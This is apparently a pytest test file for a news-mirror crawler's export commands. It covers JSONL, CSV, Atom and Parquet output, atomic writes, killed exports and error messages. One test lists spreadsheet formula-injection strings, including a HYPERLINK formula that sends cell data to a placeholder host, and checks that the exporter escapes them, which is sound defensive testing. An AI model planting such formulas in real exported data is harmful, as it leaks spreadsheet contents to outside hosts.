"""Articles copied out: what stands in each format, from one moment of the mirror, whole or not at all."""

import csv
import io
import json
import re
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import closing
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any, BinaryIO

import pytest
from atomrules import broken_rules, entries_in
from click.testing import CliRunner
from crawling import Mirror
from exporting import rich_mirror
from pyarrow import parquet
from sqlite_utils import Database
from test_store import ARTICLE

from crawler.archivedpages import archived_page
from crawler.cli import main
from crawler.read import Article, read_page
from pipelines.articlejson import article_json
from pipelines.database import open_database, open_readonly, writing
from pipelines.errors import ExportError, UnknownSiteError
from pipelines.export.articles import ArticleExport
from pipelines.export.destination import new_file
from pipelines.export.table import COLUMNS, csv_rows
from pipelines.items import Attachment, Image
from pipelines.storedarticles import Selection, StoredArticle

Write = Callable[[ArticleExport, BinaryIO], None]

FORMATS: dict[str, Write] = {
    "jsonl": ArticleExport.jsonl,
    "csv": ArticleExport.csv,
    "atom": ArticleExport.atom,
    "parquet": ArticleExport.parquet,
}
EVERYTHING = Selection()
AT = datetime(2026, 11, 22, 8, tzinfo=UTC)


@pytest.fixture(scope="module")
def mirror(tmp_path_factory: pytest.TempPathFactory) -> Mirror:
    return rich_mirror(tmp_path_factory.mktemp("export"))


@pytest.fixture
def db(mirror: Mirror) -> Iterator[Database]:
    with closing(open_readonly(mirror.output)) as opened:
        yield opened


def exported(db: Database, form: str, selection: Selection = EVERYTHING, **options: Any) -> bytes:
    file = io.BytesIO()
    FORMATS[form](ArticleExport(db, selection, **options), file)
    return file.getvalue()


def lines(document: bytes) -> list[dict[str, Any]]:
    return [json.loads(line) for line in document.decode().split("\n")[:-1]]


def govnews(*arguments: object, **options: Any) -> subprocess.CompletedProcess[bytes]:
    command = [sys.executable, "-m", "crawler.cli", *map(str, arguments)]
    return subprocess.run(command, capture_output=True, check=False, timeout=60, **options)


def test_a_line_of_json_is_what_reading_the_archived_page_gives(mirror: Mirror, db: Database) -> None:
    records = {record["url"]: record for record in lines(exported(db, "jsonl", Selection(sites=("xa",))))}
    assert len(records) == 6
    for url, record in records.items():
        warc, offset = mirror.one(
            "SELECT warc, offset FROM captures WHERE url = ? AND status = 200 ORDER BY id LIMIT 1", url
        )
        page = archived_page(mirror.output, warc, offset)
        reading = read_page(page.body, page.url, content_type=page.content_type, fetched_at=page.fetched_at)
        assert isinstance(reading, Article)
        expected = article_json(replace(reading, site="xa"))
        assert list(record) == list(expected)
        for kept, read in zip(record["attachments"], expected["attachments"], strict=True):
            read["filename"] = kept["filename"]  # the store knows the name that came with the file
        assert record == expected | {"quality": record["quality"]}


def test_attachments_and_pictures_stand_in_their_order(db: Database) -> None:
    record = next(record for record in lines(exported(db, "jsonl")) if record["url"].endswith("xa.example/tin-2.html"))
    assert [file["label"] for file in record["attachments"]] == ["Bản cũ", "Bản sao", "Đã mất"]
    assert [image["url"] for image in record["images"]] == ["http://xa.example/anh/giong.png"]


def test_csv_is_read_back_by_any_reader(db: Database) -> None:
    document = exported(db, "csv")
    assert document.count(b"\r\n") == 13, "rows end with CRLF, and lines within a cell do not"
    rows = list(csv.DictReader(io.StringIO(document.decode(), newline="")))
    assert list(rows[0]) == list(COLUMNS)
    assert [row["site"] for row in rows] == ["xa"] * 6 + ["ban"] * 6
    second = next(row for row in rows if row["url"] == "http://xa.example/tin-2.html")
    assert second["attachment_labels"].split("\n") == ["Bản cũ", "Bản sao", "Đã mất"]
    assert second["title"] == "Xã Mẫu làm đường giao thông nông thôn đợt 2"
    assert second["body"].count("\n") > 0


def test_a_byte_order_mark_is_written_when_excel_is_to_read_it(db: Database) -> None:
    assert exported(db, "csv").startswith(b"id,url,")
    file = io.BytesIO()
    ArticleExport(db, EVERYTHING).csv(file, bom=True)
    assert file.getvalue().startswith(b"\xef\xbb\xbfid,url,")


def stored(**changes: Any) -> StoredArticle:
    return StoredArticle(
        id=1,
        identity="1",
        article=replace(ARTICLE, site="x", **changes),
        site="x",
        site_title="Huyện X",
        first_url=ARTICLE.url,
        first_seen_at=AT,
        last_seen_at=AT,
        last_changed_at=AT,
        state="live",
        files=(),
    )


def csv_row(article: StoredArticle, **options: Any) -> dict[str, str]:
    document = b"".join(csv_rows([article], **options)).decode()
    return next(csv.DictReader(io.StringIO(document, newline="")))


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://x.example/?"&A1;"xem")', '\'=HYPERLINK("http://x.example/?"&A1;"xem")'),
        ("+84 239 3831 123", "'+84 239 3831 123"),
        ("- Chi bộ thôn Đông", "'- Chi bộ thôn Đông"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("＝1+1", "'＝1+1"),
        ("Thu = chi", "Thu = chi"),
        ('Nói "không", với\nrác', 'Nói "không", với\nrác'),
        ("", ""),
    ],
)
def test_a_spreadsheet_runs_nothing_that_a_page_says(text: str, cell: str) -> None:
    assert csv_row(stored(title=text))["title"] == cell
    assert csv_row(stored(title=text), guard=False)["title"] == text


def test_lists_in_a_cell_keep_their_lines_together() -> None:
    images = (Image(url="http://x.example/1"), Image(url="http://x.example/2", caption="Lúa\nxuân"))
    row = csv_row(stored(images=images, tags=("lúa", "=nông"), attachments=(Attachment(url="http://x.example/a"),)))
    assert row["image_urls"].split("\n") == ["http://x.example/1", "http://x.example/2"]
    assert row["image_captions"].split("\n") == ["", "Lúa xuân"]
    assert row["image_credits"] == ""
    assert row["tags"] == "lúa; =nông"


def test_parquet_has_types(db: Database) -> None:
    table = parquet.read_table(io.BytesIO(exported(db, "parquet")))
    types = {name: str(table.schema.field(name).type) for name in table.column_names}
    assert types["published_at"] == "timestamp[ms, tz=UTC]"
    assert types["published_date"] == "date32[day]"
    assert types["tags"].startswith("list<")
    assert "struct<url: string, label: string, filename: string>" in types["attachments"]
    [row] = [row for row in table.to_pylist() if row["url"] == "http://xa.example/tin-2.html"]
    assert row["published_at"] == datetime(2024, 5, 2, 1, 15, tzinfo=UTC)
    assert (row["published_offset"], row["published_date"]) == (420, date(2024, 5, 2))
    assert [file["label"] for file in row["attachments"]] == ["Bản cũ", "Bản sao", "Đã mất"]
    assert row["first_seen_at"].tzinfo is not None


def test_without_its_extra_parquet_says_what_to_install(db: Database, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(ExportError, match=r"govnews-mirror\[parquet\]"):
        exported(db, "parquet")


def test_the_atom_export_is_one_valid_complete_feed(db: Database) -> None:
    document = exported(db, "atom")
    assert broken_rules(document) == []
    assert len(entries_in(document)) == 12
    assert b"<fh:complete" in document
    assert "Xã Bạn, Xã Mẫu".encode() in document


@pytest.mark.parametrize(
    ("selection", "numbers"),
    [
        (Selection(), [1, 2, 3, 4, 5, 6] * 2),
        (Selection(sites=("xa",)), [1, 2, 3, 4, 5, 6]),
        (Selection(sites=("xa", "ban"), since=date(2024, 5, 5)), [5, 6] * 2),
        (Selection(until=date(2024, 5, 2), sites=("ban",)), [1, 2]),
        (Selection(since=date(2024, 5, 3), until=date(2024, 5, 3)), [3, 3]),
        (Selection(since=date(2025, 1, 1)), []),
    ],
)
def test_sites_and_days_choose_the_articles(db: Database, selection: Selection, numbers: list[int]) -> None:
    records = lines(exported(db, "jsonl", selection))
    assert sorted(record["url"][-6] for record in records) == sorted(map(str, numbers))


def test_a_site_that_the_mirror_does_not_hold_is_named(db: Database) -> None:
    with pytest.raises(UnknownSiteError, match="the mirror holds nothing of 'xb'; it holds: ban, xa"):
        exported(db, "jsonl", Selection(sites=("xb",)))


@pytest.mark.parametrize("form", FORMATS)
def test_the_same_mirror_gives_the_same_bytes(db: Database, form: str) -> None:
    assert exported(db, form) == exported(db, form)


@pytest.mark.parametrize("form", FORMATS)
def test_an_empty_mirror_gives_an_empty_document(tmp_path: Path, form: str) -> None:
    open_database(tmp_path).close()
    with closing(open_readonly(tmp_path)) as db:
        document = exported(db, form)
    assert (document == b"") == (form == "jsonl")


class WritingMeanwhile(io.BytesIO):
    """A file during whose first line another program writes to the mirror."""

    def __init__(self, output: Path) -> None:
        super().__init__()
        self._output = output

    def write(self, data: Any) -> int:
        if self.tell() == 0:
            with closing(open_database(self._output)) as other, writing(other):
                other.execute("UPDATE articles SET title = 'Đã sửa giữa chừng'")
        return super().write(data)

    def writelines(self, pieces: Any) -> None:
        for piece in pieces:
            self.write(piece)


def test_an_export_shows_one_moment_while_a_crawl_is_writing(tmp_path: Path) -> None:
    many(tmp_path, 600)
    file = WritingMeanwhile(tmp_path)
    with closing(open_readonly(tmp_path)) as db:
        ArticleExport(db, EVERYTHING).jsonl(file)
        assert {record["title"] for record in lines(file.getvalue())} == {"Hội nghị tổng kết"}
        assert {record["title"] for record in lines(exported(db, "jsonl"))} == {"Đã sửa giữa chừng"}


def many(output: Path, number: int) -> None:
    """A mirror of this many articles."""
    with closing(open_database(output)) as db, writing(db):
        db.execute("INSERT INTO sites VALUES ('x', 'Huyện X', 'http://x.example/', 'auto')")
        db.execute("INSERT INTO runs (site, kind, started_at) VALUES ('x', 'crawl', '2026-01-01T00:00:00Z')")
        db.execute(
            "INSERT INTO captures (run, site, url, fetched_at, status) "
            "VALUES (1, 'x', 'http://x.example/', '2026-01-01T00:00:00Z', 200)"
        )
        db.conn.executemany(
            "INSERT INTO articles (site, identity, url, title, body, body_html, published_date, quality, "
            "reader_version, content_sha256, capture, first_seen_at, last_seen_at, last_changed_at) "
            "VALUES ('x', ?1, 'http://x.example/' || ?1, 'Hội nghị tổng kết', ?2, '', '2024-05-07', 1, '', '', 1, "
            "'2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z')",
            ((one, f"Đoạn số {one}. " * 40) for one in range(number)),
        )


@pytest.fixture(scope="module")
def large(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("large")
    many(folder, 6_000)
    return folder


@pytest.mark.parametrize("form", ["jsonl", "atom"])
def test_a_killed_export_leaves_nothing_under_the_name_and_harms_nothing_there(
    large: Path, tmp_path: Path, form: str
) -> None:
    target, part = tmp_path / f"tin.{form}", tmp_path / f".tin.{form}.part"
    for earlier in (None, "bản xuất lần trước"):
        if earlier:
            target.write_text(earlier, encoding="utf-8")
        export = subprocess.Popen(
            [sys.executable, "-m", "crawler.cli", "export", form, str(target), "--output", str(large), "--quiet"]
        )
        wait_until(lambda: part.exists() and part.stat().st_size > 100_000)
        export.send_signal(signal.SIGKILL)
        assert export.wait() == -signal.SIGKILL
        assert part.exists(), "it was killed in the middle"
        assert (target.read_text(encoding="utf-8") if target.exists() else None) == earlier
    assert govnews("export", form, target, "--output", large, "--quiet").returncode == 0
    with closing(open_readonly(large)) as db:
        assert target.read_bytes() == exported(db, form)
    assert list(tmp_path.iterdir()) == [target], "what was left of the killed one is gone"


def wait_until(holds: Callable[[], bool]) -> None:
    ends = time.monotonic() + 30
    while not holds():
        assert time.monotonic() < ends
        time.sleep(0.002)


def fail_after_some(written: int) -> None:
    if written > 200:
        raise ZeroDivisionError


def test_an_export_that_fails_leaves_what_was_there(large: Path, tmp_path: Path) -> None:
    target = tmp_path / "tin.jsonl"
    target.write_bytes(b"x")
    with closing(open_readonly(large)) as db, pytest.raises(ZeroDivisionError), new_file(target) as file:
        ArticleExport(db, EVERYTHING, tell=fail_after_some).jsonl(file)
    assert target.read_bytes() == b"x"
    assert list(tmp_path.iterdir()) == [target]


@pytest.mark.parametrize(
    ("place", "sentence"),
    [("", "is a folder"), ("khong/co/tin.jsonl", "there is no folder"), ("/dev/full", "/dev/full")],
)
def test_a_place_that_cannot_be_written_gets_one_sentence(
    mirror: Mirror, tmp_path: Path, place: str, sentence: str
) -> None:
    done = govnews("export", "jsonl", tmp_path / place, "--output", mirror.output)
    assert (done.returncode, done.stdout) == (1, b"")
    assert sentence in done.stderr.decode()
    assert done.stderr.count(b"\n") == 1


def test_a_device_is_written_to_and_not_replaced() -> None:
    with (
        pytest.raises(ExportError, match="/dev/full: cannot be written: No space left"),
        new_file(Path("/dev/full")) as file,
    ):
        file.write(b"x")
    assert Path("/dev/full").is_char_device()


def test_a_link_stays_a_link(tmp_path: Path) -> None:
    target, link = tmp_path / "that.csv", tmp_path / "link.csv"
    link.symlink_to(target)
    with new_file(link) as file:
        file.write(b"x")
    assert link.is_symlink()
    assert target.read_bytes() == b"x"


def test_two_exports_to_one_place_are_not_mixed(tmp_path: Path) -> None:
    target = tmp_path / "tin.csv"
    with new_file(target) as first:
        first.write(b"first")
        with pytest.raises(ExportError, match="another export is writing it"), new_file(target):
            pass
    assert target.read_bytes() == b"first"


@pytest.mark.parametrize("form", FORMATS)
def test_the_command_writes_what_the_library_writes(mirror: Mirror, db: Database, tmp_path: Path, form: str) -> None:
    target = tmp_path / f"tin.{form}"
    days = ("--since", "2024-05-02", "--until", "2024-05-04")
    done = govnews("export", form, target, "--site", "xa", *days, "--output", mirror.output)
    assert (done.returncode, done.stderr) == (0, b"")
    assert done.stdout.decode() == f"{target}: 3 articles\n"
    selection = Selection(sites=("xa",), since=date(2024, 5, 2), until=date(2024, 5, 4))
    assert target.read_bytes() == exported(db, form, selection)


def test_standard_output_takes_the_bytes_and_nothing_else(mirror: Mirror, db: Database) -> None:
    done = govnews("export", "jsonl", "-", "--output", mirror.output)
    assert done.stdout == exported(db, "jsonl")
    assert done.stderr == b"-: 12 articles\n"


def test_a_damaged_mirror_gets_one_sentence_and_leaves_no_file(tmp_path: Path) -> None:
    many(tmp_path, 600)
    path = tmp_path / "mirror.db"
    content = bytearray(path.read_bytes())
    content[len(content) // 2 :] = bytes(len(content) - len(content) // 2)
    path.write_bytes(content)
    done = govnews("export", "csv", tmp_path / "tin.csv", "--output", tmp_path)
    assert done.returncode == 1
    assert done.stderr.count(b"\n") == 1
    assert b"govnews verify" in done.stderr
    assert not (tmp_path / "tin.csv").exists()


def test_every_export_that_the_readme_shows_works(
    mirror: Mirror, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    readme = (Path(__file__).resolve().parents[1] / "README.md").read_text(encoding="utf-8")
    shown = re.findall(r"^    govnews (export [^|\n]+)", readme, re.MULTILINE)
    assert len(shown) >= len(FORMATS)
    monkeypatch.chdir(tmp_path)
    for line in shown:
        done = CliRunner().invoke(main, [*line.replace("songmau", "xa").split(), "--output", str(mirror.output)])
        assert done.exit_code == 0, f"{line}: {done.output}"
        assert (tmp_path / line.split()[2].replace("songmau", "xa")).exists() or " - " in f"{line} "


@pytest.mark.parametrize("form", [*FORMATS, "wacz"])
def test_without_a_mirror_the_command_says_what_to_do(tmp_path: Path, form: str) -> None:
    done = govnews("export", form, tmp_path / f"tin.{form}", "--output", tmp_path / "khong-co")
    assert done.returncode == 1
    assert b"there is no mirror yet" in done.stderr
    assert list(tmp_path.iterdir()) == []
